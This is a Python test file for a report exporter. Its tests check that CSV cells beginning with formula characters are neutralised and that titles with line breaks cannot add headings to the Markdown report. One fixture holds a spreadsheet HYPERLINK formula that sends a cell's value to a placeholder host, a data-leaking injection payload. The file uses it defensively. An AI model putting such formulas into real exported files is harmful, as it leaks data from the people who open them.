"""The periodic report's CSV files open in a spreadsheet without running anything."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from minhbach.catalog import Catalog
from minhbach.checks.metrics import Figures, Item, Share
from minhbach.exports.report import figures_csv, items_csv, markdown


def _rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _figures(items: list[Item]) -> Figures:
    return Figures(as_of=dt.date(2026, 6, 30), period_start=dt.date(2026, 4, 1), procedures=3, complete=Share(2, 3),
                   reviewed=Share(1, 3), on_time=Share(0, 1), pending_parts=4, items=items)


def test_report_items_that_start_a_formula_are_neutralised():
    items = [Item(owner="+don-vi", path="@data/notices/a.yml", title='=HYPERLINK("http://example.invalid/?d="&A2,"Bấm để xem")',
                  problem="-đăng muộn"), Item(owner="don-vi", path="data/a.yml", title="＝1+1", problem="quá hạn rà soát")]
    rows = _rows(items_csv(Catalog(root=Path(".")), _figures(items)))
    assert rows[1] == ["'+don-vi", "'+don-vi", "'-đăng muộn", "'=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"Bấm để xem\")",
                       "'@data/notices/a.yml"]
    assert rows[2] == ["don-vi", "don-vi", "quá hạn rà soát", "'＝1+1", "data/a.yml"]


def test_report_figures_stay_numbers():
    rows = _rows(figures_csv(_figures([]), period="2026-Q2"))
    assert ["so_thu_tuc", "3"] in rows and ["phan_dang_cap_nhat", "4"] in rows and ["ky", "2026-Q2"] in rows


def test_a_title_with_line_breaks_stays_on_its_line_of_the_markdown_report():
    items = [Item(owner="don-vi", path="data/a.yml", title="Thông báo\n\n### Giả mạo\n- mục", problem="đăng muộn")]
    text = markdown(Catalog(root=Path(".")), _figures(items), period="2026-Q2", written_on=dt.date(2026, 7, 1), site_name="Sở")
    assert "- đăng muộn: Thông báo ### Giả mạo - mục (`data/a.yml`)" in text.splitlines()
    assert [line for line in text.splitlines() if line.startswith("###")] == ["### don-vi"]
